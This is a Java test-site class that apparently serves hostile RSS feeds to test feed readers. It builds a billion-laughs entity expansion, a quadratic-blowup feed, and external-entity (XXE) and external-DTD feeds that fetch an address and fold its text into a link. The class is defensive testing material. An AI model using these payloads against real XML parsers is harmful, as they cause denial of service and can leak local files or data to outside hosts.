package org.demarche.testsite.hostile;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.demarche.testsite.Answer;

/** Feeds whose entities grow without bounds, or fetch what is nobody's business. */
public final class XmlBomb {

    private static final int LEVELS = 10;
    private static final String FEED =
            """
            <?xml version="1.0"?>
            <!DOCTYPE rss [%s]>
            <rss version="2.0"><channel><title>News</title><link>http://news.example/</link><description>&b;</description>
            <item><title>&b;</title><link>%s?&b;</link></item></channel></rss>
            """;

    private XmlBomb() {}

    /** Ten levels of entities, each ten times the one below: 10^10 laughs. */
    public static Answer billionLaughs(String link) {
        String entities = IntStream.rangeClosed(1, LEVELS)
                .mapToObj(level -> "<!ENTITY l%d \"%s\">".formatted(level, ("&l" + (level - 1) + ";").repeat(LEVELS)))
                .collect(Collectors.joining("\n", "<!ENTITY l0 \"laugh\">\n", "\n<!ENTITY b \"&l" + LEVELS + ";\">"));
        return Answer.ok("application/rss+xml", FEED.formatted(entities, link));
    }

    /** One large entity, many times. */
    public static Answer manyCopies(String link) {
        String entities =
                "<!ENTITY a \"%s\"><!ENTITY b \"%s\">".formatted("laugh ".repeat(20_000), "&a;".repeat(20_000));
        return Answer.ok("application/rss+xml", FEED.formatted(entities, link));
    }

    /** An entity that is at an address; its text would become a part of the link. */
    public static Answer external(String address, String link) {
        return Answer.ok("application/rss+xml", FEED.formatted("<!ENTITY b SYSTEM \"" + address + "\">", link));
    }

    /** A document type that is at an address. */
    public static Answer externalSubset(String address, String link) {
        return Answer.ok(
                "application/rss+xml",
                """
                <?xml version="1.0"?>
                <!DOCTYPE rss SYSTEM "%s">
                <rss version="2.0"><channel><title>News</title><item><title>A</title><link>%s</link></item></channel></rss>
                """
                        .formatted(address, link));
    }
}
